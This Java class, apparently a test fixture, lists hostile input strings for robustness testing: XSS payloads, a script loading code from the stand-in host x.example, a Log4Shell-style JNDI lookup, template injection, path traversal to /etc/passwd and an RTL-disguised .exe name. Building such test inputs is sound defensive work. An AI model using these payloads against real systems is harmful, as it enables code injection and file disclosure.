package actnn.bar;

import java.util.ArrayList;
import java.util.List;

/** What somebody might call a run to break a page, a table or a path. */
final class HostileTexts {
  private static final List<String> PIECES =
      List.of(
          "<script>alert(1)</script>",
          "</title><script src=//x.example/a.js></script>",
          "\"><img src=x onerror=alert(1)>",
          "' onmouseover='alert(1)",
          "\" onfocus=\"alert(1)\" autofocus=\"",
          "javascript:alert(1)",
          "<a href=\"https://x.example\">x</a>",
          "<svg onload=alert(1)>",
          "</svg><script>x</script>",
          "</style><script>x</script>",
          "<iframe src=data:text/html,x>",
          "&lt;script&gt;",
          "&#60;script&#62;",
          "<!--",
          "-->",
          "]]>",
          "<![CDATA[x]]>",
          "<?php x ?>",
          "{{constructor.constructor('x')()}}",
          "${jndi:ldap://x.example/a}",
          "url(https://x.example/a.png)",
          "@import 'https://x.example/a.css';",
          "\u202Egpj.exe",
          "\u0000<b>",
          "\uD800lone",
          "<base href=//x.example>",
          "<meta http-equiv=refresh content=0;url=//x.example>",
          "<form action=//x.example><input name=q>",
          "<object data=//x.example></object>",
          "<link rel=stylesheet href=//x.example/a.css>",
          "\u2028<script>",
          "<ScRiPt>x</sCrIpT>",
          "<script\n>x</script\t>",
          "<<script>script>x<</script>/script>",
          "<img/src=x/onerror=alert(1)>",
          "`-alert(1)-`",
          "../../etc/passwd",
          "C:\\Windows\\win.ini",
          "='file:///etc/passwd'#$A1",
          "a\tb\nc\r\nd");

  private HostileTexts() {}

  /** Two hundred: each piece alone, before, after and within plain words, and twice. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String piece : PIECES) {
      all.addAll(List.of(piece, "run " + piece, piece + " run", "a" + piece + "b", piece + piece));
    }
    return List.copyOf(all);
  }
}
